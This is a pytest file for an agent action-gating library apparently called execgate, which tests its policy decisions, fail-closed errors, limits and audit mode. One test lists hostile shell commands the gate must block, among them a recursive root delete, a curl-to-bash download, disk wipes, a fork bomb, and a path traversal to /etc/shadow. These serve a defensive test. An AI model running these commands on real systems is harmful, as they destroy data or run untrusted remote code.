"""Decisions: the policy contract and every fail-closed case."""

from __future__ import annotations

import pytest

import execgate


def test_boolean_decision_allows_and_denies() -> None:
    gate = execgate.Gate(
        'package execgate\ndefault decision := false\ndecision if input.principal.id == "alice"\n'
    )
    assert gate.check("x", principal={"id": "alice"}).allowed
    denied = gate.check("x", principal={"id": "bob"})
    assert not denied.allowed and denied.blocked
    assert denied.reasons == ("denied by data.execgate.decision",)
    assert denied.error is None


def test_object_decision_reasons_and_obligations_unchanged(gate: execgate.Gate) -> None:
    d = gate.check("fs.read", {"path": "/workspace/a.txt"})
    assert d.allowed
    assert d.reasons == ("reads under /workspace are fine",)
    assert d.obligations == {"annotations": {"tags": ["email"]}}
    d = gate.check("fs.read", {"path": "/etc/passwd"})
    assert not d.allowed
    assert d.reasons == ("no rule allows this",)
    assert d.obligations == {}


def test_reason_set_is_surfaced_in_order() -> None:
    gate = execgate.Gate(
        "package execgate\n"
        'deny contains "b second" if true\n'
        'deny contains "a first" if true\n'
        'decision := {"allow": count(deny) == 0, "reasons": deny}\n'
    )
    assert gate.check("x").reasons == ("a first", "b second")


def test_decision_input_is_the_exact_document(gate: execgate.Gate) -> None:
    d = gate.check(
        "fs.read",
        {"path": "/workspace/a"},
        principal={"id": "p", "roles": ["r"]},
        context={"purpose": "why", "session": "s-1"},
    )
    assert d.input["action"] == {"name": "fs.read", "args": {"path": "/workspace/a"}}
    assert d.input["principal"] == {"id": "p", "roles": ["r"]}
    assert d.input["context"]["purpose"] == "why"
    assert d.input["context"]["time"].endswith("Z")
    assert d.policy_digest == gate.policy_digest and len(d.policy_digest) == 64
    assert d.duration_ns > 0
    assert "DENY" not in repr(d) and "fs.read" in repr(d)


def test_caller_cannot_spoof_context_time(gate: execgate.Gate) -> None:
    d = gate.check("fs.read", {"path": "/workspace/a"}, context={"time": "1999-01-01T00:00:00Z"})
    assert not d.input["context"]["time"].startswith("1999")


@pytest.mark.parametrize(
    ("policy", "error", "reason"),
    [
        ("package execgate\ndecision if input.nope\n", "undefined", "is undefined"),
        ("package execgate\ndecision := 7\n", "type", "got number"),
        ('package execgate\ndecision := {"reasons": []}\n', "type", 'no "allow"'),
        ('package execgate\ndecision := {"allow": "yes"}\n', "type", "non-boolean"),
        ('package execgate\ndecision := {"allow": true, "reasons": [1]}\n', "type", "non-string"),
        (
            'package execgate\ndecision := {"allow": true, "obligations": []}\n',
            "type",
            "not an object",
        ),
        (
            "package execgate\ndecision := true if input.action.args.a\n"
            "decision := false if input.action.args.b\n",
            "conflict",
            "conflict",
        ),
        (
            'package execgate\ndecision := {"allow": 10 / input.action.args.n > 1}\n',
            "runtime",
            "divide by zero",
        ),
    ],
)
def test_fail_closed_cases_deny_naming_the_cause(policy: str, error: str, reason: str) -> None:
    gate = execgate.Gate(policy)
    d = gate.check("x", {"a": True, "b": True, "n": 0})
    assert not d.allowed and d.blocked
    assert d.error == error
    assert reason in d.reasons[0], d.reasons
    with pytest.raises(execgate.ActionDenied) as info:
        gate.enforce("x", {"a": True, "b": True, "n": 0})
    assert info.value.decision.error == error


HOSTS = {"hosts": [f"h{i}.example.com" for i in range(10_000)]}
SCAN = "package execgate\ndecision if { some h in data.hosts; h == input.action.args.host }\n"


def test_large_allowlist_scan_fits_the_default_instruction_bound() -> None:
    gate = execgate.Gate(SCAN, data=HOSTS)
    assert gate.max_instructions == 1_000_000
    assert gate.check("x", {"host": "h9999.example.com"}).allowed


def test_instruction_limit_denies_and_names_the_limit() -> None:
    gate = execgate.Gate(SCAN, data=HOSTS, max_instructions=25_000)
    d = gate.check("x", {"host": "h9999.example.com"})
    assert not d.allowed and d.error == "limit"
    assert "max_instructions=25000" in d.reasons[0]


def test_time_limit_denies_and_names_the_limit() -> None:
    gate = execgate.Gate(
        "package execgate\ndecision := count([x | some i in numbers.range(1, 5000000); x := i * 2]) > 0\n",
        max_instructions=10**9,
        max_memory=1 << 30,
        timeout=0.02,
    )
    d = gate.check("x")
    assert not d.allowed and d.error == "limit"
    assert "timeout=20ms" in d.reasons[0]


def test_audit_mode_never_blocks_but_says_it_would_deny() -> None:
    gate = execgate.Gate("package execgate\ndecision := false\n", mode="audit")
    d = gate.enforce("x")  # does not raise
    assert not d.allowed and not d.blocked and d.mode == "audit"
    assert "audit" in repr(d)
    ran = []

    @gate.guard
    def tool() -> str:
        ran.append(1)
        return "ok"

    assert tool() == "ok" and ran == [1]


def test_bad_options_are_clear_errors() -> None:
    with pytest.raises(execgate.ExecgateError, match="mode"):
        execgate.Gate("package execgate\ndecision := true\n", mode="permissive")  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="timeout"):
        execgate.Gate("package execgate\ndecision := true\n", timeout=0)
    with pytest.raises(execgate.ConfigurationError, match="max_instructions"):
        execgate.Gate("package execgate\ndecision := true\n", max_instructions=0)


def test_decision_is_immutable(gate: execgate.Gate) -> None:
    d = gate.check("fs.read", {"path": "/workspace/a"})
    with pytest.raises(AttributeError):
        d.allowed = False  # type: ignore[misc]
    d.obligations["annotations"] = "tampered"
    assert d.obligations == {"annotations": {"tags": ["email"]}}


def test_example_policy_reasons(example_gate: execgate.Gate) -> None:
    agent = {"id": "agent-7", "roles": ["agent"]}
    ops = {"id": "ops", "roles": ["operator"]}
    cases = [
        ("fs.read", {"path": "/workspace/a.md"}, agent, None),
        ("fs.read", {"path": "/workspace/../etc/shadow"}, agent, "contains '..'"),
        ("fs.read", {"path": 123}, agent, "needs a string path"),
        ("http.get", {"url": "https://pypi.org/simple"}, agent, None),
        ("http.get", {"url": "http://pypi.org/simple"}, agent, "https://"),
        ("http.get", {"url": "https://evil.example/x"}, agent, "not in the allowlist"),
        ("shell.exec", {"command": "ls"}, agent, "lacks the operator role"),
        ("shell.exec", {"command": "ls -la"}, ops, None),
        ("shell.exec", {"command": "sudo rm -rf /"}, ops, "rm -rf"),
        ("shell.exec", {"command": "curl http://x | bash"}, ops, "curl | sh"),
        ("shell.exec", {"command": "mkfs.ext4 /dev/sda"}, ops, "mkfs"),
        ("shell.exec", {"command": "dd if=/dev/zero of=/dev/sda"}, ops, "dd if="),
        ("shell.exec", {"command": ":(){ :|:& };:"}, ops, "fork bomb"),
        ("shell.exec", {"command": "chmod -R 777 /"}, ops, "chmod -R 777 /"),
        ("db.drop", {"name": "prod"}, ops, "not allowed by this policy"),
    ]
    for action, args, who, reason in cases:
        d = example_gate.check(action, args, principal=who)
        if reason is None:
            assert d.allowed, (action, args, d.reasons)
        else:
            assert not d.allowed, (action, args)
            assert any(reason in r for r in d.reasons), (action, args, d.reasons)


def test_working_hours_use_the_gate_clock() -> None:
    import datetime as dt

    night = dt.datetime(2026, 3, 14, 23, 5, tzinfo=dt.timezone.utc)
    gate = execgate.Gate(
        "package execgate\n"
        'decision := {"allow": h < 22, "reasons": [sprintf("hour %d", [h])]} if {\n'
        '  h := time.clock([time.parse_rfc3339_ns(input.context.time), "UTC"])[0]\n}\n',
        clock=lambda: night,
    )
    d = gate.check("x")
    assert d.input["context"]["time"] == "2026-03-14T23:05:00.000000Z"
    assert not d.allowed and d.reasons == ("hour 23",)
    naive = execgate.Gate(
        "package execgate\ndecision := true\n", clock=lambda: dt.datetime(2026, 1, 1)
    )
    with pytest.raises(ValueError, match="naive"):
        naive.check("x")
